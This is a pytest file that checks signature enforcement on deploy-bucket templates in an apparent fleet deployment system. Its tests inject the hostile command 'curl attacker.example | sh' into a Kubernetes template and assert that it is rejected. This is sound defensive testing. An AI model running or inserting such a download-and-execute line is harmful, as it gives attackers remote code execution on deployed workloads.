"""Issue 12, a bucket writer gets its code signed: a template written to the deploy bucket
rendered whatever it held, and tag_monitor signed the result. Templates are code now: a
bucket template without a signature by a trusted operator key is rejected (structured log)
and the packaged template is rendered instead. Real GCS emulator, in-process rendering."""

from __future__ import annotations

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from edgefleet.cloud.render import (
    SIGNATURE_SUFFIX,
    BucketTemplates,
    PackagedTemplates,
    Templates,
    render_workload,
    sign_template,
)
from edgefleet.core import layout, policy, refs

DIGEST = "sha256:" + "ab" * 32
REPO = refs.parse("127.0.0.1:5999/edgefleet/model-server")
POLICY = policy.Policy(allowed_registries=("127.0.0.1:5999/edgefleet",))
EVIL_MARK = "curl attacker.example | sh"


def evil_template() -> bytes:
    packaged = PackagedTemplates().load("model-server") or ""
    return packaged.replace(
        "      imagePullPolicy: IfNotPresent",
        f'      imagePullPolicy: IfNotPresent\n      command: [sh, -c, "{EVIL_MARK}"]',
    ).encode()


def render(bucket, keys) -> str:
    templates = Templates([BucketTemplates(bucket, trusted_keys=keys), PackagedTemplates()])
    return render_workload(templates, REPO, "beta", "x86_64", DIGEST, POLICY).entry.yaml


def test_unsigned_bucket_template_is_rejected_and_packaged_one_used(bucket, caplog) -> None:
    operator = Ed25519PrivateKey.generate()
    bucket.write(layout.template_object("model-server"), evil_template())
    out = render(bucket, [operator.public_key()])
    assert EVIL_MARK not in out
    assert any(getattr(r, "fields", {}).get("event") == "template-rejected" for r in caplog.records)


def test_template_signed_by_an_untrusted_key_is_rejected(bucket) -> None:
    operator, attacker = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
    data = evil_template()
    name = layout.template_object("model-server")
    bucket.write(name, data)
    bucket.write(name + SIGNATURE_SUFFIX, sign_template(data, attacker))
    assert EVIL_MARK not in render(bucket, [operator.public_key()])
    # a signature over other bytes does not carry over to an edited template either
    bucket.write(name + SIGNATURE_SUFFIX, sign_template(b"other", operator))
    assert EVIL_MARK not in render(bucket, [operator.public_key()])


def test_operator_signed_bucket_template_is_used(bucket) -> None:
    operator = Ed25519PrivateKey.generate()
    data = (
        (PackagedTemplates().load("model-server") or "")
        .replace(
            "app.kubernetes.io/managed-by: edgefleet", "app.kubernetes.io/managed-by: ops-team"
        )
        .encode()
    )
    name = layout.template_object("model-server")
    bucket.write(name, data)
    bucket.write(name + SIGNATURE_SUFFIX, sign_template(data, operator))
    assert "ops-team" in render(bucket, [operator.public_key()])


def test_bucket_writer_template_on_the_real_stack_never_reaches_a_set(
    stack_functions, monkeypatch
) -> None:
    """The issue's attack end to end: registry push -> bridge -> Pub/Sub -> functions-
    framework tag_monitor, with a bucket writer's unsigned template for the repository."""
    import time
    import uuid

    from edgefleet.cloud.storage import Bucket, make_client
    from edgefleet.core import manifest_set

    for key, value in stack_functions.env().items():
        monkeypatch.setenv(key, value)
    deploy = Bucket(make_client(), stack_functions.config.deploy_bucket)
    name = f"sec-{uuid.uuid4().hex[:8]}"
    deploy.write(layout.template_object(name), evil_template())  # no signature
    stack_functions.registry.push_minimal_image(f"ctl/{name}", "beta", arch="amd64", salt=name)
    deadline = time.monotonic() + 60
    entry = None
    while entry is None and time.monotonic() < deadline:
        blob = deploy.read(layout.set_object("x86_64", "beta"))
        s = manifest_set.decode(blob.data).manifest_set if blob else None
        entry = s.entry("channel", name) if s else None
        time.sleep(0.1)
    assert entry is not None, "tag_monitor wrote no manifest for the pushed tag"
    assert EVIL_MARK not in entry.yaml  # the packaged template was rendered instead
    log = stack_functions.functions["tag_monitor"].log_entries()
    assert any(
        e.get("event") == "template-rejected" and name in str(e.get("template")) for e in log
    )
